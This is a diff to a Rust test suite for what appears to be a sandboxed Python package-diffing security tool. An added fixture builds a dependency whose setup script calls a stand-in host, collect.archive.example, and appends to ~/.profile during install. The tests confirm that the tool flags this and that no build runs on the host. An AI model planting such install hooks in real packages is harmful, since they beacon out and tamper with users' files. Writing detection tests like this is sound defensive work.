@@ -295,10 +295,23 @@ fn accepted_behaviour_has_its_install_phase() {
 
 /// Makes a wheel of `built_server` with these files beside its module.
 fn wheel(context: &Context, folder: &str, version: &str, more: &[(&str, &str)]) -> String {
-    let info = format!("built_server-{version}.dist-info");
-    let metadata = format!("Metadata-Version: 2.1\nName: built-server\nVersion: {version}\n");
+    wheel_of(context, folder, ("built_server", version), "", PYTHON, more)
+}
+
+/// Makes a wheel of a module with a `main`, with more lines of metadata and more files.
+fn wheel_of(
+    context: &Context,
+    folder: &str,
+    (name, version): (&str, &str),
+    fields: &str,
+    module: &str,
+    more: &[(&str, &str)],
+) -> String {
+    let info = format!("{name}-{version}.dist-info");
+    let called = name.replace('_', "-");
+    let metadata = format!("Metadata-Version: 2.1\nName: {called}\nVersion: {version}\n{fields}");
     let mut files = vec![
-        ("built_server.py".to_owned(), PYTHON.to_owned()),
+        (format!("{name}.py"), module.to_owned()),
         (format!("{info}/METADATA"), metadata),
         (
             format!("{info}/WHEEL"),
@@ -307,7 +320,7 @@ fn wheel(context: &Context, folder: &str, version: &str, more: &[(&str, &str)]) 
         ),
         (
             format!("{info}/entry_points.txt"),
-            "[console_scripts]\nbuilt-server = built_server:main\n".to_owned(),
+            format!("[console_scripts]\n{called} = {name}:main\n"),
         ),
     ];
     files.extend(
@@ -323,13 +336,13 @@ fn wheel(context: &Context, folder: &str, version: &str, more: &[(&str, &str)]) 
     for (name, text) in &files {
         context.write(&format!("{folder}/{name}"), text);
     }
-    let name = format!("{folder}/built_server-{version}-py3-none-any.whl");
+    let wheel = format!("{folder}/{name}-{version}-py3-none-any.whl");
     zip(
         &context.work().join(folder),
-        &context.work().join(&name),
+        &context.work().join(&wheel),
         &files,
     );
-    name
+    wheel
 }
 
 fn zip(folder: &Path, to: &Path, files: &[(String, String)]) {
@@ -480,7 +493,13 @@ fn a_setup_script_that_is_added_is_told_and_run() {
 }
 
 #[test]
-fn a_source_distribution_is_built_in_the_sandbox_and_started() {
+fn sources_are_built_in_the_sandbox_the_server_s_own_and_its_dependencies() {
+    own_source();
+    // What builds need is there by now: the index that follows has nothing of it.
+    source_of_a_dependency();
+}
+
+fn own_source() {
     let context = Context::apart();
     let info = "Metadata-Version: 2.1\nName: built-server\nVersion: 1.0\n";
     let files = [
@@ -501,14 +520,12 @@ fn a_source_distribution_is_built_in_the_sandbox_and_started() {
     let other = format!("{beacon}{BACK_END}");
     context.write("new/built_server-1.0/tools/back.py", &other);
     for folder in ["old", "new"] {
-        let file = context.work().join(format!("{folder}.tar.gz"));
-        let mut tar = Command::new("tar");
-        tar.arg("-czf").arg(file).arg("built_server-1.0");
-        let done = tar
-            .current_dir(context.work().join(folder))
-            .status()
-            .unwrap();
-        assert!(done.success());
+        tar(
+            &context,
+            folder,
+            "built_server-1.0",
+            &format!("{folder}.tar.gz"),
+        );
     }
     let line = "diff old.tar.gz new.tar.gz --calls 4 --format json";
     let report = context.line(line).ended(1).json();
@@ -517,4 +534,126 @@ fn a_source_distribution_is_built_in_the_sandbox_and_started() {
     let sent = finding(&report, "new-destination", "built-server");
     assert_eq!(sent["effect"]["peer"]["host"], "collect.archive.example");
     assert!(!spots(&report).contains("failed"), "{report:#}");
+}
+
+/// Makes the source of a package called `bringer`, whose set-up is `setup`. What it needs stands
+/// where setuptools notes it.
+fn bringer(context: &Context, setup: &str, needs: &str) {
+    let write = |name: &str, text: &str| {
+        context.write(&format!("source/bringer-2.0/{name}"), text);
+    };
+    write(
+        "PKG-INFO",
+        "Metadata-Version: 2.1\nName: Bringer\nVersion: 2.0\n",
+    );
+    write("bringer.egg-info/requires.txt", needs);
+    write("pyproject.toml", SYSTEM);
+    let back_end = BACK_END
+        .replace("-server\\nVersion: 1.0", "-server\\nVersion: 2.0")
+        .replace("built_server-1.0", "bringer-2.0")
+        .replace("built-server", "bringer")
+        .replace("built_server", "bringer");
+    write("tools/back.py", &format!("{setup}{back_end}"));
+    write("bringer.py", "said = \"done\"\n");
+    tar(context, "source", "bringer-2.0", "index/bringer-2.0.tar.gz");
+}
+
+fn tar(context: &Context, folder: &str, below: &str, to: &str) {
+    let mut tar = Command::new("tar");
+    tar.arg("-czf").arg(context.work().join(to)).arg(below);
+    let done = tar.current_dir(context.work().join(folder)).status();
+    assert!(done.unwrap().success());
+}
+
+/// A folder in place of an index: nothing else is asked.
+fn with_index() -> Context {
+    let context = Context::apart();
+    let index = context.work().join("index");
+    std::fs::create_dir(&index).unwrap();
+    context
+        .env("PIP_NO_INDEX", "1")
+        .env("PIP_FIND_LINKS", &index.display().to_string())
+}
+
+/// What the index has as source alone is built when a dependency needs it.
+fn source_of_a_dependency() {
+    let context = with_index();
+    let outside = context.work().join("executed-outside");
+    let setup = format!(
+        "import os, urllib.request\n\
+         urllib.request.urlopen('https://collect.archive.example/d')\n\
+         open(os.path.expanduser('~/.profile'), 'a').write('x')\n\
+         try: open('{}', 'w').close()\n\
+         except OSError: pass\n",
+        outside.display()
+    );
+    bringer(
+        &context,
+        &setup,
+        "leaf>=1\n[:os_name == 'nt']\nabsent\n[never:os_name == 'posix']\nabsent\n",
+    );
+    let old = wheel(&context, "old", "1.0.0", &[]);
+    let text = PYTHON.replace("\"done\"", "__import__(\"bringer\").said");
+    let needs = "Requires-Dist: bringer<3,>=2\n";
+    let new = wheel_of(
+        &context,
+        "new",
+        ("built_server", "1.0.1"),
+        needs,
+        &text,
+        &[],
+    );
+    wheel_of(&context, "index", ("leaf", "1.0"), "", "", &[]);
+
+    let line = format!("diff {old} {new} --calls 4 --format json");
+    let report = context.line(&line).ended(1).json();
+    assert!(!outside.exists(), "a build ran on this machine");
+    let added = finding(&report, "install-script-added", "bringer");
+    assert_eq!(added["severity"], "suspicious");
+    assert_eq!(
+        added["package"],
+        json!({ "name": "bringer", "version": "2.0", "dependency": true, "script": "build" })
+    );
+    let sent = finding(&report, "new-destination", "bringer");
+    assert_eq!(sent["phase"], "install");
+    assert_eq!(sent["effect"]["peer"]["host"], "collect.archive.example");
+    assert_eq!(
+        finding(&report, "new-file", "bringer")["severity"],
+        "suspicious"
+    );
+    assert_eq!(
+        report["new"]["dependencies"],
+        json!(["bringer none → 2.0", "leaf none → 1.0"])
+    );
+    // What was built is what the server imports, and pip itself is no finding.
+    let [result] = findings(&report, "result-changed")[..] else {
+        panic!("{report:#}")
+    };
+    assert_eq!(result["now"], "`built`");
+    assert!(!spots(&report).contains("failed"), "{report:#}");
+    let programs = findings(&report, "new-program");
+    assert!(
+        programs.iter().all(|f| f["severity"] == "info"),
+        "{report:#}"
+    );
+
+    // What lies at an address of its own choice is not built at all.
+    let address = format!(
+        "Requires-Dist: bringer @ file://{}/index/bringer-2.0.tar.gz\n",
+        context.work().display()
+    );
+    wheel_of(&context, "index", ("middle", "1.0"), &address, "", &[]);
+    let needs = "Requires-Dist: middle\n";
+    let far = wheel_of(
+        &context,
+        "far",
+        ("built_server", "1.0.2"),
+        needs,
+        PYTHON,
+        &[],
+    );
+    let refused = context.line(&format!("triage {far}")).ended(2);
+    let told = "asks for `bringer @ file://";
+    assert!(refused.stderr.contains(told), "{}", refused.stderr);
+    assert!(!outside.exists(), "a build ran on this machine");
 }
